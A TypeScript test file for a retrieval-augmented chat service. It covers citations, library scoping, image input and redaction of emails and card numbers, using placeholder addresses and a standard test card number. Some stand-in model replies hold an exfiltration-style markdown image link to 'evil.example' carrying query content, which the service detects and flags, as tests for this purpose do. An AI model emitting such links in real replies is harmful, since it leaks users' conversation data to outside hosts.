/** Conversations over a library: what the model is given, what is cited, what is redacted on the way. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import { Client, startTestApp, type TestApp } from "../support/app.ts"
import { dataOf, readEvents, textOf } from "../support/events.ts"
import { LLAMA, type OllamaStandIn, startOllama } from "../support/ollama.ts"

const MODEL = "ollama/llava:7b"
const VISION = { ...LLAMA, name: "llava:7b", digest: "v", capabilities: ["completion", "vision"], contextLength: 8_192 }
/** The smallest PNG: one grey pixel. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg==",
  "base64",
)

let app: TestApp
let api: Client
let ollama: OllamaStandIn
const files: Record<string, string> = {}

beforeAll(async () => {
  ollama = await startOllama([VISION])
  app = await startTestApp({ "ollama-host": ollama.server.url, "file-wait-seconds": "1" })
  api = await app.client()
  const records = await api.index(
    [
      {
        name: "widgets.txt",
        data: "Product sheet.\n\nThe Larkspur widget weighs forty-two grams and is painted cobalt blue.\n",
      },
      { name: "people.txt", data: "Contact for the Narvik warehouse: write to ola.hansen@example.com at any time.\n" },
      {
        name: "costs.txt",
        data: "The Tromsø branch had costs of 12 million kroner in 2022 and of 15 million kroner in 2023.\n",
      },
    ],
    { context_id: "sheets" },
  )
  for (const { name, id } of records) files[name] = id
}, 60_000)

afterAll(async () => {
  await app.stop()
  ollama.server.stop()
})

const stream = async (path: string, body: unknown) => readEvents(await api.raw("POST", path, body))
const got = (scene: string) => ollama.server.scenes.got(scene)
const newest = (scene: string): string => got(scene).at(-1).messages.at(-1).content

test("passages reach the model under their numbers, and citations come back bound to them", async () => {
  ollama.server.scenes.add("cite", { text: "Forty-two grams [1]. It can fly [99]." })
  const events = await stream("/conversations", {
    model: MODEL,
    message: "case-cite What does the Larkspur widget weigh?",
  })
  const [source] = dataOf(events, "sources").sources
  expect(source).toMatchObject({ index: 1, file_id: files["widgets.txt"], name: "widgets.txt" })
  expect(newest("cite")).toContain("[1] widgets.txt")
  expect(newest("cite")).toContain(source.text)
  expect(newest("cite")).toEndWith("What does the Larkspur widget weigh?")
  const { citations } = dataOf(events, "message_completed")
  expect(citations).toHaveLength(1)
  expect(citations[0]).toMatchObject({ index: 1, chunk_id: source.chunk_id, position: source.position })
  expect(dataOf(events, "warning")).toMatchObject({
    code: "invalid_citation",
    message: expect.stringContaining("[99]"),
  })
})

test("an address that the model was not given is warned of, in the stream, the stored reply, set B and /v1", async () => {
  const given = "https://example.org/given"
  ollama.server.scenes.add("links", { text: `[a](${given}) ![](https://evil.example/?q=Larkspur)` })
  const message = `case-links What does the Larkspur widget weigh? See ${given}.`
  const warning = {
    code: "foreign_link",
    message: expect.stringContaining("https://evil.example/?q=Larkspur"),
    addresses: ["https://evil.example/?q=Larkspur"],
  }
  const events = await stream("/conversations", { model: MODEL, message })
  expect(dataOf(events, "warning")).toEqual(warning)
  expect(events.findIndex(({ event }) => event === "warning")).toBe(events.length - 3) // message_completed, done
  const id = dataOf(events, "conversation_created").conversation_id
  const { body } = await api.get(`/conversations/${id}`)
  expect(body.messages.at(-1).warnings).toEqual([warning])
  const door = new Client(() => app.url, api.key, "")
  const answer = await door.post("/v1/chat/completions", {
    model: MODEL,
    messages: [{ role: "user", content: message }],
  })
  expect(answer.body.carrel.warnings).toEqual([warning])
})

test("an address of an earlier reply is no address that was given", async () => {
  ollama.server.scenes.add("again", { text: "https://evil.example/again" })
  const first = await stream("/conversations", { model: MODEL, message: "case-again What does the widget weigh?" })
  const path = `/conversations/${dataOf(first, "conversation_created").conversation_id}`
  const second = await stream(path, { message: "case-again And once more, the widget?" })
  expect(
    got("again")
      .at(-1)
      .messages.map(({ role }: { role: string }) => role),
  ).toContain("assistant")
  expect(dataOf(second, "warning")).toMatchObject({ addresses: ["https://evil.example/again"] })
})

test.each([
  ["use_library: false", { use_library: false }],
  ["an empty scope", { context_id: "elsewhere" }],
])("%s gives the model nothing", async (_, scope) => {
  ollama.server.scenes.add("none", { text: "No idea [1]." })
  const events = await stream("/conversations", { model: MODEL, message: "case-none Larkspur widget?", ...scope })
  expect(newest("none")).toBe("case-none Larkspur widget?")
  expect(dataOf(events, "sources")?.sources ?? []).toEqual([])
  expect(dataOf(events, "message_completed").citations).toEqual([])
})

test("where nothing in the library bears on the message, the stream says so and the model is told", async () => {
  ollama.server.scenes.add("zzqk", { text: "Nothing was found." })
  const events = await stream("/conversations", {
    model: MODEL,
    message: "case-zzqk xyzzyqwv qwzxkj vbnmqw ghjkzx wqxzzk",
  })
  expect(dataOf(events, "sources").sources).toEqual([])
  const details = events.filter(({ event }) => event === "status").map(({ data }) => data.detail)
  expect(details).toContain("nothing in the library bears on this")
  expect(newest("zzqk")).toContain("no passage of it bears on the message")
  expect(newest("zzqk")).toEndWith("case-zzqk xyzzyqwv qwzxkj vbnmqw ghjkzx wqxzzk")
  const quoted = await stream("/conversations", { model: "builtin/extractive", message: "xyzzyqwv plugh" })
  expect(dataOf(quoted, "message_completed").content).toBe("The library holds nothing that answers this.")
  // Files that a turn names are what it is about, whatever the words.
  const named = await stream("/conversations", {
    model: MODEL,
    message: "case-zzqk xyzzyqwv qwzxkj vbnmqw ghjkzx wqxzzk",
    file_ids: [files["widgets.txt"]],
  })
  expect(dataOf(named, "sources").sources.map((source: { name: string }) => source.name)).toEqual(["widgets.txt"])
})

test("file_ids narrow, also as the context of another conversation; deleted files are no more", async () => {
  ollama.server.scenes.add("scope", { text: "ok" })
  const uploaded = await api.index([{ name: "gone.txt", data: "A note about the Larkspur." }])
  const only = [files["people.txt"], uploaded[0].id]
  const made = await api.post("/start-conversation", { model: MODEL, message: "case-scope Larkspur?", file_ids: only })
  const { conversation_id } = made.body
  const sourcesOf = async (body: object) =>
    dataOf(
      await stream("/conversations", { model: MODEL, message: "case-scope Larkspur warehouse?", ...body }),
      "sources",
    ).sources.map((source: { file_id: string }) => source.file_id)
  expect(new Set(await sourcesOf({ context_id: conversation_id }))).toEqual(new Set(only))
  await api.delete(`/libraries/${uploaded[0].id}`)
  const followed = await stream(`/conversations/${conversation_id}`, { message: "case-scope and now the Larkspur?" })
  expect(dataOf(followed, "sources").sources.map((source: { file_id: string }) => source.file_id)).toEqual([
    files["people.txt"],
  ])
})

test("a file that is uploaded with a conversation as its context belongs to what was given to it", async () => {
  ollama.server.scenes.add("given", { text: "Fine." })
  const made = await api.post("/start-conversation", {
    model: MODEL,
    message: "case-given Costs?",
    file_ids: [files["costs.txt"]],
  })
  const { conversation_id: context_id } = made.body
  const data = "The Larkspur widget is sold in kroner.\n"
  await api.index([{ name: "later.txt", data }], { context_id })
  const { body } = await api.post("/semantic-search", { query: "kroner Larkspur", context_id, limit: 10 })
  expect(body.documents.map((document: { file: { name: string } }) => document.file.name).sort()).toEqual([
    "costs.txt",
    "later.txt",
  ])
})

test("a follow-up is searched with its subject", async () => {
  ollama.server.scenes.add("follow", { text: "ok" })
  const first = await stream("/conversations", {
    model: MODEL,
    message: "case-follow What were the costs of the Tromsø branch in 2022?",
    context_id: "sheets",
    reading: "passages",
  })
  const id = dataOf(first, "conversation_created").conversation_id
  const events = await stream(`/conversations/${id}`, { message: "and in 2023?" })
  expect(dataOf(events, "sources").sources[0].name).toBe("costs.txt")
})

test("pictures go to a model that sees, but not where the turn is redacted", async () => {
  ollama.server.scenes.add("image", { text: "Grey." })
  const { body } = await api.upload([{ name: "dot.png", data: new Uint8Array(PNG) }])
  const ask = (more: object) =>
    stream("/conversations", {
      model: MODEL,
      message: "case-image What is this?",
      file_ids: [body.files[0].id],
      ...more,
    })
  await ask({})
  expect(got("image")[0].messages.at(-1).images).toEqual([PNG.toString("base64")])
  await ask({ redaction: { kinds: ["EMAIL"] } })
  expect(got("image")[1].messages.at(-1).images).toBeUndefined()
})

describe("builtin/extractive", () => {
  const ask = async (message: string, more: object = {}) =>
    stream("/conversations", { model: "builtin/extractive", message, context_id: "sheets", ...more })

  test("quotes with citation", async () => {
    const events = await ask("What does the Larkspur widget weigh?")
    const { content, citations } = dataOf(events, "message_completed")
    expect(content).toContain("The Larkspur widget weighs forty-two grams and is painted cobalt blue. [1]")
    expect(citations[0].file_id).toBe(files["widgets.txt"])
    expect(textOf(events)).toBe(content)
  })

  test("says when there is nothing, without citations", async () => {
    const { content, citations, finish_reason } = dataOf(
      await ask("What is the capital of Mongolia?"),
      "message_completed",
    )
    expect(content.length).toBeGreaterThan(10)
    expect([citations, finish_reason]).toEqual([[], "stop"])
  })

  test("answers a follow-up with its subject, and a new question for itself", async () => {
    const first = await ask("What were the costs of the Tromsø branch in 2022?")
    const id = dataOf(first, "conversation_created").conversation_id
    const next = async (message: string) =>
      dataOf(await stream(`/conversations/${id}`, { message }), "message_completed").content
    expect(await next("and in 2023?")).toContain("15 million")
    expect(await next("What does the Larkspur widget weigh?")).toContain("forty-two")
  })
})

describe("redaction", () => {
  const SECRETS = ["kari.nord@example.org", "lars@example.net", "ola.hansen@example.com", "4111 1111 1111 1111"]
  const redaction = { kinds: ["EMAIL", "CREDIT_CARD"] }

  test("nothing private reaches the model, the client or the store", async () => {
    ollama.server.scenes.add("redact", {
      pieces: ["Pay with 4111 1", "111 11", "11 1111 or ask lars@exa", "mple.net now."],
    })
    const made = await stream("/conversations", {
      model: MODEL,
      use_library: false,
      message: "case-before I am kari.nord@example.org",
    })
    const id = dataOf(made, "conversation_created").conversation_id
    const before = ollama.server.requests.length
    const events = await stream(`/conversations/${id}`, {
      message: "case-redact Who is the contact of the Narvik warehouse? I am lars@example.net",
      system_prompt: "Report to kari.nord@example.org.",
      use_library: true,
      title: "For lars@example.net",
      redaction,
    })
    const sent = JSON.stringify(ollama.server.requests.slice(before))
    const conversation = (await api.get(`/conversations/${id}`)).body
    const seen = JSON.stringify([events, conversation.messages.slice(2), conversation.title])
    for (const secret of SECRETS) {
      expect(sent).not.toContain(secret)
      expect(seen).not.toContain(secret)
    }
    expect(sent).toContain("Contact for the Narvik warehouse: write to [REDACTED_EMAIL]")
    expect(textOf(events)).toBe("Pay with [REDACTED_CREDIT_CARD] or ask [REDACTED_EMAIL] now.")
    expect(dataOf(events, "redaction")).toMatchObject({ kinds: { EMAIL: 3 } })
    expect(dataOf(events, "message_completed").ner_count).toBe(5)
    expect(conversation.ner_count).toBe(5)
  })

  test("a card number never shows, however the stream is cut", async () => {
    const text = "card 4111 1111 1111 1111 end"
    for (let at = 6; at < 24; at += 3) {
      ollama.server.scenes.add("pieces", { pieces: [text.slice(0, at), ...text.slice(at)] })
      const events = await stream("/conversations", {
        model: MODEL,
        use_library: false,
        message: "case-pieces",
        redaction,
      })
      expect(textOf(events)).toBe("card [REDACTED_CREDIT_CARD] end")
      expect(JSON.stringify(events)).not.toContain("4111")
    }
  })
})
